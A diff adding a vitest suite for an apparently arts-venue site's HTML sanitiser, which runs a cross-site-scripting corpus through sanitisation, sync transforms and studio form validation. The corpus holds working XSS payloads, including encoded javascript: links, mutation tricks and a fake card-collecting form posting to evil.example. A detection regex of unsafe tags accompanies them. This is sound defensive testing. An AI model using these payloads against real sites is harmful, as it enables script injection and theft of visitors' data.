@@ -1,0 +1,123 @@
+import { describe, expect, it } from "vitest";
+import { DISALLOWED_MARKUP_MESSAGE, excerpt, hasDisallowedMarkup, htmlToText, sanitizeVenueHtml } from "@/lib/html/sanitize";
+import { applyTransform } from "@/lib/sync/transforms";
+import { blockSchema } from "@/lib/studio/blocks";
+import { eventEditSchema } from "@/lib/studio/events";
+
+/**
+ * The one venue-HTML policy (lib/html/sanitize), run against a cross-site-scripting corpus. Every way venue
+ * HTML reaches a page goes through it: the sync's `html` transform, the studio's event and block forms, and the
+ * render of event pages, published blocks and the studio preview.
+ */
+
+// Payloads in the shapes attackers and careless copy-paste produce: tags, handlers, schemes, encodings, nesting.
+const XSS_CORPUS = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  '<img src="javascript:alert(1)">',
+  "<svg/onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<math><mtext><script>alert(1)</script></mtext></math>",
+  "<body onload=alert(1)>",
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example/">x</a>',
+  '<p onclick="alert(1)">x</p>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<div onmouseover="alert(1)">x</div>',
+  "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
+  '<base href="https://evil.example/">',
+  "<template><script>alert(1)</script></template>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+  "<<script>alert(1)//<</script>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  '<a href="https://example.org" onclick="alert(1)">x</a>',
+  '<p><a title="x" href="https://example.org" target="_top">x</a></p>',
+  "<!--<script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+];
+
+/** What must never survive: an executable tag, an event handler, a script-bearing scheme, inline style. */
+const UNSAFE = /<\s*(script|iframe|object|embed|svg|math|style|link|meta|form|input|button|base|img|template|body)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|style=|href="\/\//i;
+
+describe("venue HTML sanitiser: the XSS corpus", () => {
+  it.each(XSS_CORPUS)("leaves nothing executable of %s", (payload) => {
+    const out = sanitizeVenueHtml(payload) ?? "";
+    expect(out).not.toMatch(UNSAFE);
+    // The same payload wrapped the way Spektrix wraps descriptions, and through the sync's transform.
+    expect(sanitizeVenueHtml(`<div id="x"><p>Before</p>${payload}<p>After</p></div>`)).not.toMatch(UNSAFE);
+    expect(String(applyTransform("html", payload, { timeZone: "UTC" }) ?? "")).not.toMatch(UNSAFE);
+  });
+
+  it.each(XSS_CORPUS.filter((p) => /<\s*(script|style|iframe|object|embed|form|input|link|meta|svg|math)\b|\son[a-z]+\s*=|javascript:/i.test(p)))(
+    "the studio refuses %s rather than cleaning it silently",
+    (payload) => {
+      expect(hasDisallowedMarkup(payload)).toBe(true);
+      const event = eventEditSchema.safeParse({ bodyOverrideHtml: payload });
+      expect(event.success).toBe(false);
+      expect(JSON.stringify(event.error?.issues)).toContain(DISALLOWED_MARKUP_MESSAGE);
+      expect(blockSchema.safeParse({ type: "richText", html: payload }).success).toBe(false);
+    },
+  );
+
+  it("is idempotent, so the sync and the page may both clean the same HTML", () => {
+    for (const payload of [...XSS_CORPUS, '<h1>T</h1><h5>s</h5><p><a href="https://a.b">y</a> <a href="mailto:x@y.z">m</a></p>']) {
+      const once = sanitizeVenueHtml(payload);
+      expect(sanitizeVenueHtml(once)).toBe(once);
+    }
+  });
+});
+
+describe("venue HTML sanitiser: the policy", () => {
+  it("removes scripts, handlers and javascript: links but keeps formatting", () => {
+    const out = sanitizeVenueHtml('<h1>Tosca</h1><p onclick="x()">A <strong>thriller</strong><script>alert(1)</script></p><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>');
+    expect(out).toContain("<h2>Tosca</h2>");
+    expect(out).toContain("<strong>thriller</strong>");
+    expect(out).not.toMatch(/script|onclick|onerror|javascript|<img/i);
+  });
+
+  it("drops style elements with their content", () => {
+    expect(sanitizeVenueHtml("<style>p{}</style><b>ok</b>")).toBe("<b>ok</b>");
+  });
+
+  it("keeps headings between h2 and h4: the page owns the h1", () => {
+    expect(sanitizeVenueHtml("<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>")).toBe("<h2>a</h2><h2>b</h2><h3>c</h3><h4>d</h4><h4>e</h4><h4>f</h4>");
+  });
+
+  it("opens outside links safely", () => {
+    expect(sanitizeVenueHtml('<p><a href="https://example.org">Programme</a></p>')).toContain('rel="noopener noreferrer nofollow"');
+    expect(sanitizeVenueHtml('<p><a href="https://example.org">Programme</a></p>')).toBe(
+      '<p><a href="https://example.org" rel="noopener noreferrer nofollow" target="_blank">Programme</a></p>',
+    );
+  });
+
+  it("decides rel and target itself: mail, phone and relative links carry neither, whatever the author wrote", () => {
+    expect(sanitizeVenueHtml('<p><a href="mailto:box@example.org" target="_blank" rel="opener">Mail</a></p>')).toBe('<p><a href="mailto:box@example.org">Mail</a></p>');
+    expect(sanitizeVenueHtml('<p><a href="tel:+441234">Call</a> <a href="/membership" target="_top">Join</a></p>')).toBe('<p><a href="tel:+441234">Call</a> <a href="/membership">Join</a></p>');
+  });
+
+  it("strips empty wrappers and treats Spektrix's empty editor output as no description", () => {
+    expect(sanitizeVenueHtml("<div id>\r\n\r\n</div>")).toBeNull();
+    expect(sanitizeVenueHtml("<p>&nbsp;</p>")).toBeNull();
+    expect(sanitizeVenueHtml("<hr>")).toBeNull();
+    expect(sanitizeVenueHtml("<div><p></p><p>Hi</p><span> </span></div>")).toBe("<div><p>Hi</p></div>");
+  });
+
+  it("makes plain text and excerpts", () => {
+    expect(htmlToText("<p>One</p><p>Two &amp; three</p>")).toBe("One Two & three");
+    expect(excerpt("word ".repeat(100), 30)).toMatch(/…$/);
+  });
+});
